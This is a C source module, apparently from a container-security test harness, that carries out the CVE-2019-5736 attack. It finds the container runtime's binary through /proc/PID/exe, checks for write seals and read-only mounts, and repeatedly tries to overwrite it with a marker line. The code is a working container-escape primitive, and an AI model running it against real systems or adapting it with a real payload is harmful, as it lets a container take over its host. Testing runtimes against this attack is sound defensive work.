// CVE-2019-5736: the runtime's own program, reached through /proc/PID/exe of what it executes in the container.
#include "attacks.h"
#include <dirent.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <time.h>

static int same(const struct stat *one, const struct stat *other) {
    return one->st_dev == other->st_dev && one->st_ino == other->st_ino;
}

// Opens the program of a process that is neither this one nor the image's shell.
static int reach(const char *pid, const struct stat own[2]) {
    char path[300];
    struct stat found;
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd >= 0 && fstat(fd, &found) == 0 && !same(&found, own) && !same(&found, own + 1)) return fd;
    if (fd >= 0) close(fd);
    return -1;
}

// `overwrite MILLISECONDS`: waits for such a process, holds its program, and tries to write to it for a second, also
// when nobody executes it any more. `reached=DEVICE:INODE`, `seals=…`, `readonly=…` and how the writing went.
int overwrite(int argc, char **argv) {
    struct timespec pause = {0, 50000};
    struct stat own[2], found;
    stat("/proc/self/exe", own);
    stat("/bin/busybox", own + 1);
    int fd = -1;
    long rounds = (argc > 0 ? atol(argv[0]) : 10000) * 10;
    puts("waiting");
    for (long round = 0; fd < 0 && round < rounds; round++) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; fd < 0 && (entry = readdir(proc));)
            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9') fd = reach(entry->d_name, own);
        closedir(proc);
        nanosleep(&pause, NULL);
    }
    if (fd < 0) return puts("reached=nothing"), 1;
    fstat(fd, &found);
    printf("reached=%lu:%lu\n", (unsigned long)found.st_dev, (unsigned long)found.st_ino);
    char again[64];
    snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
    struct statvfs mount;
    int reader = open(again, O_RDONLY);
    int seals = fcntl(reader, F_GET_SEALS);
    printf("seals=%s\n", seals >= 0 && (seals & F_SEAL_WRITE) ? "write" : "none");
    printf("readonly=%s\n", fstatvfs(reader, &mount) == 0 && (mount.f_flag & ST_RDONLY) ? "yes" : "no");
    close(reader);
    long written = -1;
    for (int round = 0; round < 1000 && written < 0; round++) {
        int out = open(again, O_WRONLY);
        if (out >= 0) {
            written = write(out, "#!/attack\n", 10);
            int because = errno;
            close(out);
            errno = because;
        }
        if (written < 0 && errno != ETXTBSY) break;
        struct timespec wait = {0, 1000000};
        int because = errno;
        nanosleep(&wait, NULL);
        errno = because;
    }
    told("write", written);
    return 0;
}
